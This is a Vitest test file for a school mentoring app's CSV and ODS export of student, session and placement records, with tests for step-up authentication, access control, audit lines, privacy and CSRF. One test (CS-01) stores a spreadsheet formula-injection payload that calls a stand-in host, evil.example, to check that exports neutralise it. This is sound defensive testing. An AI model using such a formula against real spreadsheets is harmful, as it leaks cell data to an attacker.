import { beforeEach, describe, expect, test } from 'vitest'
import { confirmSession } from '../../../src/mentoring/confirming/confirm-session.js'
import { exportRecords } from '../../../src/mentoring/exports/export-records.js'
import { findStudent } from '../../../src/mentoring/students/store.js'
import { issueToken } from '../../../src/people/issue-token.js'
import { OPERATOR } from '../../../src/people/operator.js'
import { readToken } from '../../../src/people/tokens.js'
import { openWorld, type World } from '../../support/world.js'
import { rowsOf, sheetsOf } from '../../web/tables/readers.js'
import { aMember, aPlacement, aSession, ADDRESS, openAcademy, type Academy } from '../academy.js'
import { browserOf, textOf } from '../browser.js'
import { contest } from '../calendar/content.js'

let world: World
let academy: Academy

beforeEach(async () => {
  world = await openWorld()
  academy = await openAcademy(world)
  await aMember(world, academy, { id: 'zoe', level: '1RE_PRO' })
  await aMember(world, academy, { id: 'noe', givenName: 'Noé' })
})

const csv = { form: 'csv', language: 'fr' } as const
const rowsFor = async (input: Parameters<typeof exportRecords>[2]) =>
  rowsOf((await exportRecords(world, academy.teacher, input)).bytes)
const lines = async () =>
  (await world.db.selectFrom('audit').selectAll().execute()).filter(
    ({ action }) => action === 'records.exported',
  )

test('files of minors leave for somebody who has shown that it is them, as the archive of a scheme does', async () => {
  const stale = { ...academy.teacher, mustStepUp: true as const }
  for (const what of [
    { what: 'students', cohortId: academy.cohortId },
    { what: 'sessions', year: 2026 },
    { what: 'placements', year: 2026 },
  ] as const)
    await expect(exportRecords(world, stale, { ...csv, ...what })).rejects.toMatchObject({
      code: 'step-up-required',
    })
  expect(await lines()).toEqual([])
})

describe('the students of a cohort', () => {
  test('PT-04 come with their hours by kind and the months that they are owed', async () => {
    await aSession(world, academy, { studentIds: ['zoe', 'noe'] })
    await aSession(world, academy, { studentIds: ['zoe'], kind: 'CARRIERE', day: '2026-10-06' })
    const wrong = await aSession(world, academy, { studentIds: ['zoe'], day: '2026-11-11' })
    await contest(world, 'zoe', wrong)
    const input = { what: 'students', cohortId: academy.cohortId } as const
    expect(await rowsFor({ ...csv, ...input })).toEqual([
      [
        ...['Nom', 'Prénom', 'Niveau', 'Division', 'Projet', 'Immersion', 'Carrière'],
        ...['Mois sans séance Carrière', 'Lesquels'],
      ],
      ['Kerguélen', 'Noé', '2de pro', '2PC', '1:00', '0:00', '0:00', '0', ''],
      [
        ...['Kerguélen', 'Zoé', '1re pro', '2PC', '1:00', '0:00', '1:00'],
        ...['2', 'septembre 2026, novembre 2026'],
      ],
    ])
  })

  test('are in a spreadsheet, in the language of whoever reads it', async () => {
    const input = { what: 'students', cohortId: academy.cohortId } as const
    const file = await exportRecords(world, academy.teacher, {
      ...input,
      form: 'ods',
      language: 'en',
    })
    expect(file).toMatchObject({
      name: 'sceau-students-2026-11-24.ods',
      type: 'application/vnd.oasis.opendocument.spreadsheet',
    })
    const [sheet] = sheetsOf(file.bytes)
    expect(sheet!.name).toBe('Students')
    expect(sheet!.rows[0]!.map(({ text }) => text)).toContain('Months without a Career session')
    expect(sheet!.rows[2]![4]).toEqual({ type: 'time', value: 'PT0H0M0S', text: '' })
  })

  test('are those who are at the school now: who left it is no longer theirs to export', async () => {
    const { id } = (await findStudent(world.db, 'zoe'))!
    await world.db
      .updateTable('schoolings')
      .set({ until_day: '2026-11-20' })
      .where('student_id', '=', id)
      .execute()
    const input = { what: 'students', cohortId: academy.cohortId } as const
    expect((await rowsFor({ ...csv, ...input })).slice(1).map(([, given]) => given)).toEqual([
      'Noé',
    ])
  })
})

describe('the sessions and placements of a school year', () => {
  test('come with their state, and who confirmed them in which function', async () => {
    const session = await aSession(world, academy, { studentIds: ['zoe', 'noe'] })
    await confirmSession(world, academy.tutor, session)
    await contest(world, 'noe', session)
    await aPlacement(world, academy, 'zoe')
    expect((await rowsFor({ ...csv, what: 'sessions', year: 2026 }))[1]).toEqual([
      ...['2026-11-10', 'P-TECH', '2PC, entrée en 2026-2027', 'Projet', 'Petit groupe', '1:00'],
      ...['Moule en composite', 'Composites du Lac DÉMO', '2', '1', 'Confirmée', '2026-11-24'],
      ...['endosseur de l’entreprise', '1'],
    ])
    expect((await rowsFor({ ...csv, what: 'placements', year: 2026 }))[1]).toEqual([
      ...['Kerguélen', 'Zoé', 'Composites du Lac DÉMO', '2026-11-02', '2026-11-13', '9'],
      ...['Attend une confirmation', '', '', '1'],
    ])
    for (const what of ['sessions', 'placements'] as const) {
      expect(await rowsFor({ ...csv, what, year: 2025 })).toHaveLength(1)
    }
  })

  test('CS-01 a topic that would be a formula is a text', async () => {
    await aSession(world, academy, { studentIds: ['zoe'] })
    const topic = '=HYPERLINK("https://evil.example/?"&A1;"Moule")'
    await world.db.updateTable('mentoring_sessions').set({ topic }).execute()
    expect((await rowsFor({ ...csv, what: 'sessions', year: 2026 }))[1]![6]).toBe(`'${topic}`)
  })

  test('are those of the school and of no other', async () => {
    await aSession(world, academy, { studentIds: ['zoe'] })
    await aPlacement(world, academy, 'zoe')
    for (const what of ['sessions', 'placements'] as const) {
      const { bytes } = await exportRecords(world, academy.stranger, { ...csv, what, year: 2026 })
      expect(rowsOf(bytes)).toHaveLength(1)
    }
    const input = { what: 'students', cohortId: academy.cohortId } as const
    await expect(
      exportRecords(world, academy.stranger, { ...csv, ...input }),
    ).rejects.toMatchObject({ code: 'not-found' })
  })
})

describe('an export', () => {
  test('is a line of the audit with counts, and names nobody there or in the name of its file', async () => {
    await aSession(world, academy, { studentIds: ['zoe', 'noe'] })
    const { cohortId, teacher, school } = academy
    const inputs = [
      { ...csv, what: 'students', cohortId },
      { ...csv, what: 'sessions', year: 2026 },
      { ...csv, what: 'placements', year: 2026 },
    ] as const
    const names = []
    for (const input of inputs) names.push((await exportRecords(world, teacher, input)).name)
    expect(names).toEqual([
      'sceau-eleves-2026-11-24.csv',
      'sceau-seances-2026-2027.csv',
      'sceau-pfmp-2026-2027.csv',
    ])
    const told = await lines()
    expect(told.map(({ subject, details }) => [subject, JSON.parse(details) as unknown])).toEqual([
      [cohortId, { what: 'students', form: 'csv', rows: 2, year: null }],
      [school.publicId, { what: 'sessions', form: 'csv', rows: 1, year: 2026 }],
      [school.publicId, { what: 'placements', form: 'csv', rows: 0, year: 2026 }],
    ])
    expect(JSON.stringify(told)).not.toMatch(/Zoé|Noé|Kergu|Moule/)
  })

  test('holds no birth date and no INE', async () => {
    await aPlacement(world, academy, 'zoe')
    const { cohortId, teacher } = academy
    for (const form of ['csv', 'ods'] as const) {
      for (const input of [
        { what: 'students', cohortId },
        { what: 'placements', year: 2026 },
      ] as const) {
        const { bytes } = await exportRecords(world, teacher, { ...input, form, language: 'fr' })
        const text = form === 'csv' ? String(bytes) : JSON.stringify(sheetsOf(bytes))
        expect(text).toContain('Kerguélen')
        expect(text).not.toMatch(/2011|03\/02/)
        expect(text).not.toContain(world.vault.fingerprint('zoe'))
      }
    }
  })

  test('is for the staff of a school, at a page: no officer, no company, no token', async () => {
    const input = { ...csv, what: 'sessions', year: 2026 } as const
    for (const name of ['officer', 'tutor'] as const) {
      await expect(exportRecords(world, academy[name], input)).rejects.toMatchObject({
        code: 'not-found',
      })
    }
    const { token } = await issueToken(world, OPERATOR, {
      ...{ name: 'Essai', scopes: ['mentoring:read'], days: 1, organisationId: null },
      ownerId: academy.teacher.personId,
    })
    const program = (await readToken(world, token))!
    await expect(exportRecords(world, program, input)).rejects.toMatchObject({ code: 'not-found' })
    expect(await lines()).toEqual([])
  })
})

describe('the page of exports', () => {
  test('sends files by its forms, and the cohort’s page has one for its students', async () => {
    const browser = await browserOf(world, ADDRESS.teacher)
    const page = await browser.get('/exports')
    expect(textOf(page)).toContain('2PC, entrée en 2026-2027')
    expect(page.text).toContain('href="/exports/scheme/PTECH"')
    const ids = [...page.text.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id)
    expect(new Set(ids).size).toBe(ids.length)
    const sent = await browser.send('/exports', { year: '2026', sessions: 'csv' })
    expect(sent.status).toBe(200)
    expect(sent.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="sceau-seances-2026-2027.csv"',
      'cache-control': 'no-store',
    })
    const cohort = await browser.get(`/cohorts/${academy.cohortId}`)
    expect(cohort.text).toMatch(/<form[^>]* action="\/exports"/)
    const [, _csrf = ''] = /name="_csrf" value="([^"]*)"/.exec(cohort.text)!
    const fields = { _csrf, cohortId: academy.cohortId, students: 'ods' }
    const students = await browser.sendAs('/exports', fields)
    expect(students.get('Content-Disposition')).toContain('sceau-eleves-2026-11-24.ods')
  })

  test('takes no form of another site, and nothing that it does not offer', async () => {
    const browser = await browserOf(world, ADDRESS.teacher)
    expect((await browser.sendAs('/exports', { year: '2026', sessions: 'csv' })).status).toBe(403)
    for (const fields of [
      { year: '2026', sessions: 'xlsx' },
      { year: '1', sessions: 'csv' },
      { students: 'csv' },
      {},
    ]) {
      expect((await browser.send('/exports', fields as Record<string, string>)).status).toBe(400)
    }
    expect(await lines()).toEqual([])
  })

  test('is not there for an officer, nor its button on the cohort’s page', async () => {
    const browser = await browserOf(world, ADDRESS.officer)
    expect((await browser.get('/exports')).status).toBe(404)
    const cohort = await browser.get(`/cohorts/${academy.cohortId}`)
    expect(cohort.text).not.toContain('action="/exports"')
    const [, _csrf = ''] = /name="_csrf" value="([^"]*)"/.exec(cohort.text)!
    const fields = { _csrf, cohortId: academy.cohortId, students: 'csv' }
    expect((await browser.sendAs('/exports', fields)).status).toBe(404)
  })
})
